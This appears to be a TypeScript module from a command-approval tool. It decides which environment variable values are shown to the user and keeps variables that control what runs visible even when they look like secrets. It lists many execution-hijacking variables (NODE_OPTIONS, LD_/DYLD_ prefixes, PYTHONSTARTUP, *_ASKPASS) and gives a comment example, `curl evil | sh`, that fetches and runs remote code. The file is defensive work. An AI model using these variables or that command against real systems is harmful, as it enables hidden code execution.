// Selects the variables whose values the user sees for approval: `command = "node app.js"` with NODE_OPTIONS runs
// something else. No list of such variables is ever complete, so every value is shown whose name is not that of a
// secret; those below decide which program runs, or what it loads first, and are always shown.
import { isPlainlySecretName, isSecretName } from '../base/secrets/names.ts';
import { maskSecrets } from '../base/secrets/masking.ts';

const NAMES: ReadonlySet<string> = new Set([
  ...['PATH', 'PATHEXT', 'COMSPEC', 'SHELL', 'HOME', 'IFS', 'ENV', 'BASH_ENV', 'BASHOPTS', 'SHELLOPTS', 'ZDOTDIR'],
  ...[
    'PS4',
    'PROMPT_COMMAND',
    'CDPATH',
    'GLIBC_TUNABLES',
    'GCONV_PATH',
    'XDG_CONFIG_HOME',
    'EDITOR',
    'VISUAL',
    'PAGER',
  ],
  ...[
    'NODE_OPTIONS',
    'NODE_PATH',
    'NODE_REPL_EXTERNAL_MODULE',
    'ELECTRON_RUN_AS_NODE',
    'BROWSER',
    'LESSOPEN',
    'LESSCLOSE',
  ],
  ...['PYTHONPATH', 'PYTHONHOME', 'PYTHONSTARTUP', 'PYTHONBREAKPOINT', 'PYTHONWARNINGS', 'VIRTUAL_ENV'],
  ...['PERL5OPT', 'PERL5LIB', 'PERLLIB', 'PERL5DB', 'RUBYOPT', 'RUBYLIB', 'GEM_HOME', 'GEM_PATH', 'BUNDLE_GEMFILE'],
  ...['JAVA_TOOL_OPTIONS', '_JAVA_OPTIONS', 'JDK_JAVA_OPTIONS', 'JAVA_OPTS', 'JAVA_HOME', 'CLASSPATH', 'MAVEN_OPTS'],
  ...['GRADLE_OPTS', 'PHPRC', 'PHP_INI_SCAN_DIR', 'LUA_INIT', 'LUA_PATH', 'LUA_CPATH', 'GOROOT', 'GOPATH', 'GOFLAGS'],
  ...[
    'RUSTC',
    'RUSTC_WRAPPER',
    'RUSTC_WORKSPACE_WRAPPER',
    'RUSTFLAGS',
    'CC',
    'CXX',
    'MAKEFLAGS',
    'MAKEFILES',
    'ERL_FLAGS',
  ],
  ...['CORECLR_PROFILER', 'CORECLR_PROFILER_PATH', 'CORECLR_ENABLE_PROFILING', 'OPENSSL_CONF', 'OPENSSL_MODULES'],
  ...['GNUMAKEFLAGS', 'ERL_AFLAGS', 'ERL_ZFLAGS', 'BUN_OPTIONS', 'YARN_YARN_PATH', 'PYTHONUSERBASE', 'MAVEN_ARGS'],
  ...['PYTHONPYCACHEPREFIX', 'R_PROFILE_USER', 'GUNICORN_CMD_ARGS', 'PYTEST_ADDOPTS', 'COR_PROFILER', 'PSMODULEPATH'],
  ...['DOCKER_CONFIG', 'KUBECONFIG', 'SSH_ASKPASS', 'SUDO_ASKPASS', 'GIT_ASKPASS'],
]);

/** They name the program that gives the secret: RESTIC_PASSWORD_COMMAND, CARGO_REGISTRY_CREDENTIAL_PROVIDER. */
const GIVERS = /_(?:COMMAND|CMD|PROGRAM|PROVIDERS?)$|^CARGO_CREDENTIAL_ALIAS_/;

/** Of these no list is complete; one that carries a secret is not shown, whatever else it decides. */
const BEGINNINGS =
  /^(?:LD_|DYLD_|BASH_FUNC_|GIT_|NPM_CONFIG_|CARGO_|DOTNET_|LUA_INIT_|LUA_PATH_|MSBUILD|JULIA_|DIRIGENT_)/;

/** The value of a variable as it is shown; undefined if the name is that of a secret. */
export function shownValue(name: string, value: string): string | undefined {
  if (!decidesWhatRuns(name)) return isSecretName(name) ? undefined : maskSecrets(value);
  const masked = maskSecrets(value);
  return withoutTokens(masked) === withoutTokens(value) ? masked : value;
}

/** In any letter case, as on Windows and in npm. */
function decidesWhatRuns(name: string): boolean {
  const upper = name.toUpperCase();
  return NAMES.has(upper) || GIVERS.test(upper) || (BEGINNINGS.test(upper) && !isPlainlySecretName(upper));
}

/**
 * `PAGER = "Cookie: ; curl evil | sh"` looks like a secret up to its end, and what runs must not be masked: with a
 * token go none of the letters that this leaves.
 */
function withoutTokens(text: string): string {
  return text.replaceAll(/[\w.~%+=*-]/g, '');
}
